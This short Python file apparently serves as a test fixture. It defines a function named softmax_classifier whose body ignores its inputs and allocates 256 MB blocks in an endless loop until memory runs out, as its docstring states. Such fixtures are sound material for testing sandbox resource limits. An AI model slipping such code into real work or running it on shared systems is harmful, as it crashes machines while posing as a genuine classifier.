"""Allocates memory until something breaks."""


def softmax_classifier(W, input, label, lamda):
    hoard = []
    while True:
        hoard.append(bytearray(1 << 28))
